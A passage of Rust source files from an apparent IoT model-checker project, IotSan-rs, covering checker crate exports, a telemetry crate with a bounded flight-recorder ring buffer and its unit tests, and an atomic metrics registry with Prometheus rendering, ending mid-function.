//! Systems*, CoNEXT 2018, §2.3 and §8).
//!
//! The paper uses Spin in verification mode with BITSTATE hashing as a
//! falsifier: explore the bounded state space of the generated IoT-system
//! model, check safety properties, and produce counterexamples.  This crate
//! provides the same capabilities without shelling out to Spin:
//!
//! * [`transition`] — the [`TransitionSystem`] abstraction the model generator
//!   implements (sequential and strict-concurrent designs);
//! * [`store`] — exhaustive, hash-compact and BITSTATE (Bloom filter) visited
//!   state storage, plus a sharded concurrent store for multi-core search;
//! * [`search`] — bounded DFS/BFS with per-property counterexamples and search
//!   statistics;
//! * [`parallel`] — the multi-core engine: a `std::thread` worker pool over a
//!   shared chunked work queue, deterministically merged (Spin's multi-core /
//!   swarm verification in spirit);
//! * [`trace`] — Spin-style violation logs (Figure 7).
//!
//! The checker is completely independent of IoT semantics, which keeps it
//! reusable and testable in isolation (its unit tests run it over a toy
//! counter model).

#![deny(missing_docs)]

pub mod parallel;
pub mod search;
pub mod store;
pub mod trace;
pub mod transition;

pub use parallel::ParallelChecker;
pub use search::{
    CancelToken, Checker, FoundViolation, SearchConfig, SearchMode, SearchReport, SearchStats,
};
pub use store::{
    fnv1a, BitstateStore, ExactStore, HashCompactStore, ShardedStore, StateStore, StoreKind,
};
pub use trace::{LogLine, Trace, TraceStep};
pub use transition::{StepLog, StepOutcome, TransitionSystem, Violation};
