//! Observability primitives for IotSan-rs: an allocation-free atomic
//! metrics registry, a bounded flight recorder of lifecycle events, and
//! the shared JSON row serializer the daemon and the `repro` harness
//! render through.
//!
//! The paper ran verification as a service across 150 market apps; the
//! daemon grown in PRs 7–9 makes that a long-lived process with degraded
//! modes, retries and quarantine — which is only operable if you can see
//! where states, cache hits and wall-time go.  This crate is that window:
//!
//! - [`metrics`] — a fixed, const-constructed registry of counters, gauges
//!   and fixed-bucket histograms covering checker, planner/cache, verdict
//!   store and daemon.  Hot paths flush local tallies once per
//!   search/job/store operation; snapshots render as Prometheus text
//!   exposition or as the flat JSON row the BENCH pipeline consumes.
//! - [`flight`] — a bounded ring buffer of structured lifecycle events
//!   (job accepted/claimed/retried/quarantined, store
//!   append/compact/recover/degrade/reprobe, search start/cap/cancel),
//!   dumped automatically on degrade or panic and on demand, with a
//!   level-filtered stderr sink replacing ad-hoc `eprintln!` diagnostics.
//! - [`rows`] — the ordered JSON-object writer shared by the daemon's
//!   NDJSON outcomes, `repro`'s `BENCH_*.json` rows and the snapshot
//!   renderer, so the three surfaces cannot drift in escaping or number
//!   formatting.
//!
//! Compiling with `default-features = false` turns the registry and the
//! ring into zero-sized no-ops (consumer crates forward this as their own
//! `telemetry` feature); a runtime kill-switch
//! ([`metrics::set_enabled`]) additionally lets the bench harness A/B the
//! recording overhead inside one process.

#![deny(missing_docs)]
#![forbid(unsafe_code)]

pub mod flight;
pub mod metrics;
pub mod rows;

pub use flight::{Event, EventCode, FlightRing, Level, FLIGHT_CAPACITY};
pub use metrics::{
    snapshot, Counter, Descriptor, FloatGauge, Gauge, Histogram, Kind, Metrics, Sample, Snapshot,
    Value, DESCRIPTORS, METRICS,
};
pub use rows::JsonRow;
