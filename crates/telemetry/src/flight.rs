//! The flight recorder: a bounded ring buffer of structured lifecycle
//! events, plus the level-filtered stderr log sink that replaces the
//! daemon's ad-hoc `eprintln!` diagnostics.
//!
//! Events are rare (job and store lifecycle, not per-state), so recording
//! takes a plain mutex; the ring holds the last [`FLIGHT_CAPACITY`] events
//! and older ones are overwritten in arrival order.  The daemon dumps the
//! ring automatically when the store degrades or a worker panics, and on
//! demand through `iotsand`'s `{"op":"flight"}` request — a black-box
//! recorder for the minutes before an incident.
//!
//! With the crate's `on` feature disabled the ring stores nothing
//! ([`events`] is empty, dumps render empty); the stderr sink keeps
//! working either way, so diagnostics never disappear in a no-op build.

use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::Mutex;

/// How many events the ring retains.
pub const FLIGHT_CAPACITY: usize = 256;

/// Event severity, ordered `Debug < Info < Warn < Error`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Fine-grained progress (per-job steps).
    Debug = 0,
    /// Normal lifecycle milestones.
    Info = 1,
    /// Degradations the service survived.
    Warn = 2,
    /// Failures that lost or refused work.
    Error = 3,
}

impl Level {
    /// The lowercase name (`debug`/`info`/`warn`/`error`).
    pub fn as_str(self) -> &'static str {
        match self {
            Level::Debug => "debug",
            Level::Info => "info",
            Level::Warn => "warn",
            Level::Error => "error",
        }
    }

    /// Parses a level name (as accepted by `iotsand --log-level`).
    pub fn parse(s: &str) -> Option<Level> {
        match s {
            "debug" => Some(Level::Debug),
            "info" => Some(Level::Info),
            "warn" => Some(Level::Warn),
            "error" => Some(Level::Error),
            _ => None,
        }
    }

    fn from_u8(v: u8) -> Level {
        match v {
            0 => Level::Debug,
            1 => Level::Info,
            2 => Level::Warn,
            _ => Level::Error,
        }
    }
}

/// What happened — the closed vocabulary of lifecycle events.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EventCode {
    /// A job entered the daemon queue.
    JobAccepted,
    /// A worker claimed a job for execution.
    JobClaimed,
    /// A job finished (any terminal status).
    JobCompleted,
    /// A job execution panicked and will be retried.
    JobRetried,
    /// A job exhausted its retry budget and was quarantined.
    JobQuarantined,
    /// A verdict record was appended to the durable store.
    StoreAppend,
    /// The verdict store compacted its log.
    StoreCompact,
    /// The verdict store replayed an existing log at open.
    StoreRecover,
    /// The store was bypassed after an I/O failure (degraded mode).
    StoreDegrade,
    /// A degraded-mode reprobe attempted to reopen the store.
    StoreReprobe,
    /// A reprobe succeeded and the store was restored.
    StoreRepair,
    /// A model-checking search started.
    SearchStart,
    /// A search hit a state/transition cap or deadline.
    SearchCap,
    /// A search was cancelled.
    SearchCancel,
    /// The daemon (or a tool embedding it) emitted a free-form diagnostic.
    Diagnostic,
}

impl EventCode {
    /// The stable snake_case name used in dumps and JSON.
    pub fn as_str(self) -> &'static str {
        match self {
            EventCode::JobAccepted => "job_accepted",
            EventCode::JobClaimed => "job_claimed",
            EventCode::JobCompleted => "job_completed",
            EventCode::JobRetried => "job_retried",
            EventCode::JobQuarantined => "job_quarantined",
            EventCode::StoreAppend => "store_append",
            EventCode::StoreCompact => "store_compact",
            EventCode::StoreRecover => "store_recover",
            EventCode::StoreDegrade => "store_degrade",
            EventCode::StoreReprobe => "store_reprobe",
            EventCode::StoreRepair => "store_repair",
            EventCode::SearchStart => "search_start",
            EventCode::SearchCap => "search_cap",
            EventCode::SearchCancel => "search_cancel",
            EventCode::Diagnostic => "diagnostic",
        }
    }
}

/// One recorded event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Event {
    /// Monotonic sequence number (0-based since process start).
    pub seq: u64,
    /// Severity.
    pub level: Level,
    /// What happened.
    pub code: EventCode,
    /// Free-form detail (job id, error message, counts).
    pub detail: String,
}

impl Event {
    /// Renders the event as one log line (`#seq LEVEL code: detail`).
    pub fn render(&self) -> String {
        format!("#{} {} {}: {}", self.seq, self.level.as_str(), self.code.as_str(), self.detail)
    }
}

/// The ring-buffer core, usable standalone (the process-wide recorder
/// wraps one instance; tests drive private instances deterministically).
#[derive(Debug)]
pub struct FlightRing {
    capacity: usize,
    slots: Vec<Event>,
    next: u64,
}

impl FlightRing {
    /// An empty ring retaining at most `capacity` events.
    pub fn new(capacity: usize) -> Self {
        FlightRing { capacity: capacity.max(1), slots: Vec::new(), next: 0 }
    }

    /// Total events ever recorded (≥ the number retained).
    pub fn recorded(&self) -> u64 {
        self.next
    }

    /// Records one event, overwriting the oldest once full.
    pub fn push(&mut self, level: Level, code: EventCode, detail: String) {
        let event = Event { seq: self.next, level, code, detail };
        if self.slots.len() < self.capacity {
            self.slots.push(event);
        } else {
            let index = (self.next % self.capacity as u64) as usize;
            self.slots[index] = event;
        }
        self.next += 1;
    }

    /// The retained events, oldest first.
    pub fn events(&self) -> Vec<Event> {
        let mut out = self.slots.clone();
        out.sort_by_key(|e| e.seq);
        out
    }

    /// Forgets every retained event (the sequence counter keeps running).
    pub fn clear(&mut self) {
        self.slots.clear();
    }
}

static STDERR_LEVEL: AtomicU8 = AtomicU8::new(Level::Warn as u8);

/// The minimum level rendered to stderr by [`record`].
pub fn stderr_level() -> Level {
    Level::from_u8(STDERR_LEVEL.load(Ordering::Relaxed))
}

/// Sets the minimum level rendered to stderr (the `--log-level` flag).
pub fn set_stderr_level(level: Level) {
    STDERR_LEVEL.store(level as u8, Ordering::Relaxed);
}

static FLIGHT: Mutex<Option<FlightRing>> = Mutex::new(None);

fn with_ring<R>(f: impl FnOnce(&mut FlightRing) -> R) -> R {
    let mut guard = match FLIGHT.lock() {
        Ok(guard) => guard,
        Err(poisoned) => poisoned.into_inner(),
    };
    f(guard.get_or_insert_with(|| FlightRing::new(FLIGHT_CAPACITY)))
}

/// Records one event into the process-wide ring and, when `level` clears
/// the stderr filter, renders it to stderr.
///
/// In a no-op build (`on` feature disabled) the ring stores nothing but
/// the stderr rendering still happens — diagnostics survive either way.
pub fn record(level: Level, code: EventCode, detail: &str) {
    if level >= stderr_level() {
        eprintln!("iotsan: {} {}: {}", level.as_str(), code.as_str(), detail);
    }
    #[cfg(feature = "on")]
    with_ring(|ring| ring.push(level, code, detail.to_string()));
}

/// The retained events of the process-wide ring, oldest first (empty in a
/// no-op build).
pub fn events() -> Vec<Event> {
    with_ring(|ring| ring.events())
}

/// Total events ever recorded by the process-wide ring.
pub fn recorded() -> u64 {
    with_ring(|ring| ring.recorded())
}

/// Forgets the process-wide ring's retained events (tests).
pub fn clear() {
    with_ring(|ring| ring.clear());
}

/// Renders the process-wide ring as a multi-line dump headed by `reason`.
pub fn dump(reason: &str) -> String {
    let events = events();
    let mut out = format!(
        "=== flight recorder dump ({reason}; {} retained of {} recorded) ===\n",
        events.len(),
        recorded()
    );
    for event in &events {
        out.push_str(&event.render());
        out.push('\n');
    }
    out.push_str("=== end flight recorder dump ===\n");
    out
}

/// Writes [`dump`] to stderr — the automatic dump on degrade or panic.
pub fn dump_to_stderr(reason: &str) {
    eprint!("{}", dump(reason));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ring_retains_everything_until_full() {
        let mut ring = FlightRing::new(4);
        for i in 0..3 {
            ring.push(Level::Info, EventCode::JobAccepted, format!("job-{i}"));
        }
        let events = ring.events();
        assert_eq!(events.len(), 3);
        assert_eq!(events[0].seq, 0);
        assert_eq!(events[2].detail, "job-2");
        assert_eq!(ring.recorded(), 3);
    }

    #[test]
    fn wraparound_keeps_the_newest_in_order() {
        let mut ring = FlightRing::new(4);
        for i in 0..10 {
            ring.push(Level::Info, EventCode::JobCompleted, format!("job-{i}"));
        }
        let events = ring.events();
        assert_eq!(events.len(), 4);
        let seqs: Vec<u64> = events.iter().map(|e| e.seq).collect();
        assert_eq!(seqs, vec![6, 7, 8, 9]);
        let details: Vec<&str> = events.iter().map(|e| e.detail.as_str()).collect();
        assert_eq!(details, vec!["job-6", "job-7", "job-8", "job-9"]);
        assert_eq!(ring.recorded(), 10);
    }

    #[test]
    fn wraparound_is_deterministic() {
        // Two rings fed the same sequence agree exactly, for any feed
        // length around the capacity boundary.
        for total in [FLIGHT_CAPACITY - 1, FLIGHT_CAPACITY, FLIGHT_CAPACITY + 1, 777] {
            let mut a = FlightRing::new(FLIGHT_CAPACITY);
            let mut b = FlightRing::new(FLIGHT_CAPACITY);
            for i in 0..total {
                a.push(Level::Debug, EventCode::StoreAppend, format!("r{i}"));
                b.push(Level::Debug, EventCode::StoreAppend, format!("r{i}"));
            }
            assert_eq!(a.events(), b.events(), "{total} events");
            assert_eq!(a.events().len(), total.min(FLIGHT_CAPACITY));
        }
    }

    #[test]
    fn levels_order_and_parse() {
        assert!(Level::Debug < Level::Info);
        assert!(Level::Info < Level::Warn);
        assert!(Level::Warn < Level::Error);
        for level in [Level::Debug, Level::Info, Level::Warn, Level::Error] {
            assert_eq!(Level::parse(level.as_str()), Some(level));
        }
        assert_eq!(Level::parse("verbose"), None);
    }

    #[test]
    fn event_renders_with_seq_level_and_code() {
        let event = Event {
            seq: 7,
            level: Level::Warn,
            code: EventCode::StoreDegrade,
            detail: "injected disk full (ENOSPC)".to_string(),
        };
        assert_eq!(event.render(), "#7 warn store_degrade: injected disk full (ENOSPC)");
    }

    #[test]
    fn clear_keeps_the_sequence_counter() {
        let mut ring = FlightRing::new(2);
        ring.push(Level::Info, EventCode::JobAccepted, "a".into());
        ring.clear();
        assert!(ring.events().is_empty());
        ring.push(Level::Info, EventCode::JobAccepted, "b".into());
        assert_eq!(ring.events()[0].seq, 1);
        assert_eq!(ring.recorded(), 2);
    }
}
