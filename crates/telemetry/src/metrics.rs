//! The allocation-free atomic metrics registry.
//!
//! A fixed set of counters, gauges and fixed-bucket histograms covering
//! every layer of the pipeline — checker, planner/cache, verdict store and
//! daemon — lives in one const-constructed [`METRICS`] static.  Hot
//! paths never touch it per-state: the instrumented crates accumulate
//! plain local counters and flush once per search / job / store operation,
//! so the per-event cost is a handful of relaxed `fetch_add`s at points
//! that already take locks or do I/O.
//!
//! With the crate's `on` feature disabled every type here is a zero-sized
//! no-op: `inc`/`add`/`observe` compile to nothing and snapshots render
//! all-zero values, so disabling telemetry is a compile-time decision with
//! no residual cost.
//!
//! A runtime kill-switch ([`set_enabled`]) additionally lets the `repro`
//! harness A/B the recording cost inside one process: when disabled,
//! recording operations return immediately (reads still work).
//!
//! Rendering: [`Snapshot::render_prometheus`] produces Prometheus text
//! exposition, [`Snapshot::render_json`] the same flat JSON object row the
//! `repro`/BENCH pipeline consumes (via [`crate::rows::JsonRow`]).

use crate::rows::JsonRow;

/// Maximum number of finite histogram bucket bounds (one extra slot counts
/// the overflow, i.e. the Prometheus `+Inf` bucket).
pub const MAX_HISTOGRAM_BOUNDS: usize = 15;

#[cfg(feature = "on")]
const SLOTS: usize = MAX_HISTOGRAM_BOUNDS + 1;

#[cfg(feature = "on")]
mod imp {
    use super::SLOTS;
    use std::sync::atomic::{AtomicBool, AtomicI64, AtomicU64, Ordering};

    pub(super) static ENABLED: AtomicBool = AtomicBool::new(true);

    /// A monotonically increasing event count.
    #[derive(Debug, Default)]
    pub struct Counter {
        cell: AtomicU64,
    }

    impl Counter {
        /// A zeroed counter (const-constructible for statics).
        pub const fn new() -> Self {
            Counter { cell: AtomicU64::new(0) }
        }

        /// Adds `n` (no-op while recording is disabled).
        pub fn add(&self, n: u64) {
            if ENABLED.load(Ordering::Relaxed) {
                self.cell.fetch_add(n, Ordering::Relaxed);
            }
        }

        /// Adds one.
        pub fn inc(&self) {
            self.add(1);
        }

        /// Current value.
        pub fn get(&self) -> u64 {
            self.cell.load(Ordering::Relaxed)
        }
    }

    /// A signed instantaneous value (queue depths, in-flight counts).
    #[derive(Debug, Default)]
    pub struct Gauge {
        cell: AtomicI64,
    }

    impl Gauge {
        /// A zeroed gauge (const-constructible for statics).
        pub const fn new() -> Self {
            Gauge { cell: AtomicI64::new(0) }
        }

        /// Sets the value.
        pub fn set(&self, v: i64) {
            if ENABLED.load(Ordering::Relaxed) {
                self.cell.store(v, Ordering::Relaxed);
            }
        }

        /// Adds `n` (may be negative via [`Gauge::sub`]).
        pub fn add(&self, n: i64) {
            if ENABLED.load(Ordering::Relaxed) {
                self.cell.fetch_add(n, Ordering::Relaxed);
            }
        }

        /// Subtracts `n`.
        pub fn sub(&self, n: i64) {
            self.add(-n);
        }

        /// Raises the value to at least `v`.
        pub fn max(&self, v: i64) {
            if ENABLED.load(Ordering::Relaxed) {
                self.cell.fetch_max(v, Ordering::Relaxed);
            }
        }

        /// Current value.
        pub fn get(&self) -> i64 {
            self.cell.load(Ordering::Relaxed)
        }
    }

    /// An `f64` gauge (bit-cast through an atomic `u64`), for rates.
    #[derive(Debug, Default)]
    pub struct FloatGauge {
        bits: AtomicU64,
    }

    impl FloatGauge {
        /// A zeroed gauge (const-constructible for statics).
        pub const fn new() -> Self {
            FloatGauge { bits: AtomicU64::new(0) }
        }

        /// Sets the value; non-finite inputs store `0.0` so `inf`/NaN can
        /// never reach a rendered snapshot.
        pub fn set(&self, v: f64) {
            if ENABLED.load(Ordering::Relaxed) {
                let v = if v.is_finite() { v } else { 0.0 };
                self.bits.store(v.to_bits(), Ordering::Relaxed);
            }
        }

        /// Current value.
        pub fn get(&self) -> f64 {
            f64::from_bits(self.bits.load(Ordering::Relaxed))
        }
    }

    /// A fixed-bucket histogram of `u64` observations.
    ///
    /// Bounds are a static, strictly increasing slice of *inclusive* upper
    /// bounds (Prometheus `le` semantics); observations above the last
    /// bound land in the implicit overflow (`+Inf`) bucket.
    #[derive(Debug)]
    pub struct Histogram {
        bounds: &'static [u64],
        counts: [AtomicU64; SLOTS],
        sum: AtomicU64,
    }

    impl Histogram {
        /// A zeroed histogram over `bounds` (const-constructible; panics at
        /// compile time if `bounds` is too long or not strictly
        /// increasing).
        pub const fn new(bounds: &'static [u64]) -> Self {
            assert!(bounds.len() <= super::MAX_HISTOGRAM_BOUNDS, "too many histogram bounds");
            let mut i = 1;
            while i < bounds.len() {
                assert!(bounds[i - 1] < bounds[i], "histogram bounds must strictly increase");
                i += 1;
            }
            #[allow(clippy::declare_interior_mutable_const)]
            const ZERO: AtomicU64 = AtomicU64::new(0);
            Histogram { bounds, counts: [ZERO; SLOTS], sum: AtomicU64::new(0) }
        }

        /// The finite bucket bounds.
        pub fn bounds(&self) -> &'static [u64] {
            self.bounds
        }

        /// Records one observation.
        pub fn observe(&self, v: u64) {
            if !ENABLED.load(Ordering::Relaxed) {
                return;
            }
            let slot = match self.bounds.iter().position(|&b| v <= b) {
                Some(i) => i,
                None => self.bounds.len(),
            };
            self.counts[slot].fetch_add(1, Ordering::Relaxed);
            self.sum.fetch_add(v, Ordering::Relaxed);
        }

        /// Per-bucket (non-cumulative) counts: one entry per finite bound
        /// plus the trailing overflow bucket.
        pub fn bucket_counts(&self) -> Vec<u64> {
            (0..=self.bounds.len()).map(|i| self.counts[i].load(Ordering::Relaxed)).collect()
        }

        /// Total observations.
        pub fn count(&self) -> u64 {
            self.bucket_counts().iter().sum()
        }

        /// Sum of all observed values.
        pub fn sum(&self) -> u64 {
            self.sum.load(Ordering::Relaxed)
        }
    }

    /// True while recording is enabled (the runtime kill-switch).
    pub fn enabled() -> bool {
        ENABLED.load(Ordering::Relaxed)
    }

    /// Flips the runtime kill-switch: while disabled, every recording
    /// operation returns immediately.  Reads and renders still work.
    pub fn set_enabled(on: bool) {
        ENABLED.store(on, Ordering::Relaxed);
    }
}

#[cfg(not(feature = "on"))]
mod imp {
    //! Zero-sized no-op mirrors of the real metric types: same API, no
    //! storage, nothing emitted.

    /// A monotonically increasing event count (no-op build).
    #[derive(Debug, Default)]
    pub struct Counter;

    impl Counter {
        /// A zeroed counter.
        pub const fn new() -> Self {
            Counter
        }

        /// No-op.
        pub fn add(&self, _n: u64) {}

        /// No-op.
        pub fn inc(&self) {}

        /// Always zero.
        pub fn get(&self) -> u64 {
            0
        }
    }

    /// A signed instantaneous value (no-op build).
    #[derive(Debug, Default)]
    pub struct Gauge;

    impl Gauge {
        /// A zeroed gauge.
        pub const fn new() -> Self {
            Gauge
        }

        /// No-op.
        pub fn set(&self, _v: i64) {}

        /// No-op.
        pub fn add(&self, _n: i64) {}

        /// No-op.
        pub fn sub(&self, _n: i64) {}

        /// No-op.
        pub fn max(&self, _v: i64) {}

        /// Always zero.
        pub fn get(&self) -> i64 {
            0
        }
    }

    /// An `f64` gauge (no-op build).
    #[derive(Debug, Default)]
    pub struct FloatGauge;

    impl FloatGauge {
        /// A zeroed gauge.
        pub const fn new() -> Self {
            FloatGauge
        }

        /// No-op.
        pub fn set(&self, _v: f64) {}

        /// Always zero.
        pub fn get(&self) -> f64 {
            0.0
        }
    }

    /// A fixed-bucket histogram (no-op build).
    #[derive(Debug)]
    pub struct Histogram {
        bounds: &'static [u64],
    }

    impl Histogram {
        /// A zeroed histogram over `bounds`.
        pub const fn new(bounds: &'static [u64]) -> Self {
            Histogram { bounds }
        }

        /// The finite bucket bounds.
        pub fn bounds(&self) -> &'static [u64] {
            self.bounds
        }

        /// No-op.
        pub fn observe(&self, _v: u64) {}

        /// All-zero per-bucket counts (one per bound plus overflow).
        pub fn bucket_counts(&self) -> Vec<u64> {
            vec![0; self.bounds.len() + 1]
        }

        /// Always zero.
        pub fn count(&self) -> u64 {
            0
        }

        /// Always zero.
        pub fn sum(&self) -> u64 {
            0
        }
    }

    /// Always false in the no-op build.
    pub fn enabled() -> bool {
        false
    }

    /// No-op.
    pub fn set_enabled(_on: bool) {}
}

pub use imp::{enabled, set_enabled, Counter, FloatGauge, Gauge, Histogram};

/// What a metric measures — determines how it renders.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Monotonic event count.
    Counter,
    /// Signed instantaneous value.
    Gauge,
    /// Floating-point instantaneous value.
    FloatGauge,
    /// Fixed-bucket distribution.
    Histogram,
}

impl Kind {
    /// The Prometheus `# TYPE` keyword for this kind.
    pub fn prometheus_type(self) -> &'static str {
        match self {
            Kind::Counter => "counter",
            Kind::Gauge | Kind::FloatGauge => "gauge",
            Kind::Histogram => "histogram",
        }
    }
}

/// Static description of one registered metric: the contract between the
/// registry, the rendered snapshots and the OPERATIONS.md reference table
/// (pinned by `tests/docs_drift.rs`).
#[derive(Debug, Clone, Copy)]
pub struct Descriptor {
    /// Exposition name (Prometheus conventions; counters end in `_total`).
    pub name: &'static str,
    /// What the metric measures.
    pub kind: Kind,
    /// Unit of the value (`states`, `bytes`, `ms`, …).
    pub unit: &'static str,
    /// One-line human description.
    pub help: &'static str,
}

/// One captured metric value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// Counter reading.
    Counter(u64),
    /// Gauge reading.
    Gauge(i64),
    /// Float-gauge reading.
    Float(f64),
    /// Histogram reading: finite bounds, per-bucket (non-cumulative)
    /// counts (one per bound plus the overflow bucket), and the value sum.
    Histogram {
        /// The finite bucket bounds.
        bounds: &'static [u64],
        /// Per-bucket counts, `bounds.len() + 1` entries.
        counts: Vec<u64>,
        /// Sum of observed values.
        sum: u64,
    },
}

/// One metric in a [`Snapshot`]: its descriptor plus the captured value.
#[derive(Debug, Clone)]
pub struct Sample {
    /// The metric's static description.
    pub descriptor: Descriptor,
    /// The captured value.
    pub value: Value,
}

macro_rules! kind_ty {
    (counter) => {
        Counter
    };
    (gauge) => {
        Gauge
    };
    (fgauge) => {
        FloatGauge
    };
    (hist) => {
        Histogram
    };
}

macro_rules! kind_tag {
    (counter) => {
        Kind::Counter
    };
    (gauge) => {
        Kind::Gauge
    };
    (fgauge) => {
        Kind::FloatGauge
    };
    (hist) => {
        Kind::Histogram
    };
}

macro_rules! kind_new {
    (counter) => {
        Counter::new()
    };
    (gauge) => {
        Gauge::new()
    };
    (fgauge) => {
        FloatGauge::new()
    };
    (hist, $bounds:expr) => {
        Histogram::new($bounds)
    };
}

macro_rules! kind_read {
    (counter, $m:expr) => {
        Value::Counter($m.get())
    };
    (gauge, $m:expr) => {
        Value::Gauge($m.get())
    };
    (fgauge, $m:expr) => {
        Value::Float($m.get())
    };
    (hist, $m:expr) => {
        Value::Histogram { bounds: $m.bounds(), counts: $m.bucket_counts(), sum: $m.sum() }
    };
}

macro_rules! registry {
    ( $( $kind:ident $field:ident : $name:literal, $unit:literal, $help:literal $(, $bounds:expr )? ; )+ ) => {
        /// The full metric registry: one field per metric, const-constructed.
        ///
        /// The process-wide instance is [`METRICS`]; tests construct
        /// private instances to assert recording behaviour without touching
        /// global state.
        #[derive(Debug)]
        pub struct Metrics {
            $( #[doc = $help] pub $field: kind_ty!($kind), )+
        }

        impl Metrics {
            /// A zeroed registry.
            pub const fn new() -> Self {
                Metrics { $( $field: kind_new!($kind $(, $bounds)?), )+ }
            }

            /// Captures every metric into a point-in-time [`Snapshot`].
            pub fn capture(&self) -> Snapshot {
                Snapshot {
                    samples: vec![
                        $( Sample {
                            descriptor: Descriptor {
                                name: $name,
                                kind: kind_tag!($kind),
                                unit: $unit,
                                help: $help,
                            },
                            value: kind_read!($kind, &self.$field),
                        }, )+
                    ],
                }
            }
        }

        impl Default for Metrics {
            fn default() -> Self {
                Metrics::new()
            }
        }

        /// Static descriptions of every registered metric, in registry
        /// order — the source of truth for the OPERATIONS.md metrics
        /// reference table.
        pub const DESCRIPTORS: &[Descriptor] = &[
            $( Descriptor { name: $name, kind: kind_tag!($kind), unit: $unit, help: $help }, )+
        ];
    };
}

/// Bucket bounds for the planner's verification-group size distribution.
pub const GROUP_SIZE_BOUNDS: &[u64] = &[1, 2, 4, 8, 16, 32, 64];

registry! {
    // Checker family: flushed once per finished search (sequential engine
    // and parallel merge alike), never per state.
    counter checker_searches: "iotsan_checker_searches_total", "searches",
        "Finished model-checking searches (sequential or parallel)";
    counter checker_states: "iotsan_checker_states_total", "states",
        "Distinct states admitted to visited-state stores across all searches";
    counter checker_transitions: "iotsan_checker_transitions_total", "transitions",
        "Transitions applied across all searches";
    counter checker_dedup_hits: "iotsan_checker_dedup_hits_total", "lookups",
        "Store insertions rejected as already-visited (dedup hits) across all searches";
    counter checker_truncated: "iotsan_checker_truncated_total", "searches",
        "Searches truncated by a state/transition cap, deadline or cancellation";
    fgauge checker_last_states_per_sec: "iotsan_checker_last_states_per_sec", "states/s",
        "Throughput of the most recently finished search";
    gauge checker_frontier_peak: "iotsan_checker_frontier_peak", "frames",
        "Peak frontier size (queue/stack frames) of the most recent search";
    gauge checker_arena_peak_bytes: "iotsan_checker_arena_peak_bytes", "bytes",
        "Peak trace-arena bookkeeping bytes of the most recent search";

    // Planner/cache family: recorded by the verification cache on every
    // lookup/insert and by the planner per planned group.
    counter cache_hits: "iotsan_cache_hits_total", "lookups",
        "Verification-cache lookups answered from memory or backing";
    counter cache_misses: "iotsan_cache_misses_total", "lookups",
        "Verification-cache lookups that required a fresh verification";
    counter cache_backing_hits: "iotsan_cache_backing_hits_total", "lookups",
        "Cache lookups answered by the durable verdict-store backing";
    counter cache_persist_failures: "iotsan_cache_persist_failures_total", "inserts",
        "Cache inserts the durable backing failed to persist";
    hist planner_group_size: "iotsan_planner_group_size", "devices",
        "Distribution of planned verification-group sizes", GROUP_SIZE_BOUNDS;

    // Verdict-store family: recorded at append/compact/open time (already
    // I/O-bound paths).
    counter store_appends: "iotsan_store_appends_total", "records",
        "Verdict records appended to the durable store";
    counter store_compactions: "iotsan_store_compactions_total", "compactions",
        "Completed verdict-store compactions";
    counter store_recoveries: "iotsan_store_recoveries_total", "opens",
        "Store opens that replayed an existing log (any recovery outcome)";
    counter store_corrupt_tails: "iotsan_store_corrupt_tails_total", "opens",
        "Store opens that truncated a torn tail or discarded the log";
    counter store_io_faults: "iotsan_store_io_faults_total", "faults",
        "Injected I/O faults executed by the fault-injection seam";

    // Daemon family: job lifecycle and health, recorded at queue and
    // supervision boundaries.
    counter daemon_jobs_accepted: "iotsan_daemon_jobs_accepted_total", "jobs",
        "Jobs accepted into the daemon queue";
    counter daemon_jobs_completed: "iotsan_daemon_jobs_completed_total", "jobs",
        "Jobs finished with status ok";
    counter daemon_jobs_failed: "iotsan_daemon_jobs_failed_total", "jobs",
        "Jobs finished with status failed (including panics)";
    counter daemon_jobs_invalid: "iotsan_daemon_jobs_invalid_total", "jobs",
        "Jobs rejected as invalid before execution";
    counter daemon_jobs_cancelled: "iotsan_daemon_jobs_cancelled_total", "jobs",
        "Jobs cancelled before or during execution";
    counter daemon_retries: "iotsan_daemon_retries_total", "attempts",
        "Job execution retries after a worker panic";
    counter daemon_quarantines: "iotsan_daemon_quarantines_total", "jobs",
        "Jobs quarantined after exhausting their retry budget";
    counter daemon_reprobes: "iotsan_daemon_reprobes_total", "probes",
        "Degraded-mode store reprobe attempts";
    counter daemon_degraded_ms: "iotsan_daemon_degraded_ms_total", "ms",
        "Total milliseconds spent in degraded (store-bypassed) mode";
    gauge daemon_queue_depth: "iotsan_daemon_queue_depth", "jobs",
        "Jobs currently waiting in the daemon queue";
    gauge daemon_inflight: "iotsan_daemon_inflight", "jobs",
        "Jobs currently claimed by workers";
    gauge daemon_degraded: "iotsan_daemon_degraded", "bool",
        "1 while the verdict store is bypassed in degraded mode, else 0";
}

/// The process-wide metric registry.
pub static METRICS: Metrics = Metrics::new();

/// Captures the process-wide registry into a point-in-time snapshot.
pub fn snapshot() -> Snapshot {
    METRICS.capture()
}

/// A point-in-time capture of every registered metric, renderable as
/// Prometheus text exposition or as one flat JSON row.
#[derive(Debug, Clone)]
pub struct Snapshot {
    /// The captured metrics, in registry order.
    pub samples: Vec<Sample>,
}

impl Snapshot {
    /// Looks up a captured value by exposition name.
    pub fn value(&self, name: &str) -> Option<&Value> {
        self.samples.iter().find(|s| s.descriptor.name == name).map(|s| &s.value)
    }

    /// Convenience: the value of a counter metric, `0` if absent.
    pub fn counter(&self, name: &str) -> u64 {
        match self.value(name) {
            Some(Value::Counter(v)) => *v,
            _ => 0,
        }
    }

    /// Renders Prometheus text exposition (HELP/TYPE comments, histogram
    /// `_bucket`/`_sum`/`_count` expansion with cumulative `le` buckets).
    pub fn render_prometheus(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        for sample in &self.samples {
            let d = &sample.descriptor;
            let _ = writeln!(out, "# HELP {} {} (unit: {})", d.name, d.help, d.unit);
            let _ = writeln!(out, "# TYPE {} {}", d.name, d.kind.prometheus_type());
            match &sample.value {
                Value::Counter(v) => {
                    let _ = writeln!(out, "{} {}", d.name, v);
                }
                Value::Gauge(v) => {
                    let _ = writeln!(out, "{} {}", d.name, v);
                }
                Value::Float(v) => {
                    let _ = writeln!(out, "{} {}", d.name, crate::rows::finite(*v));
                }
                Value::Histogram { bounds, counts, sum } => {
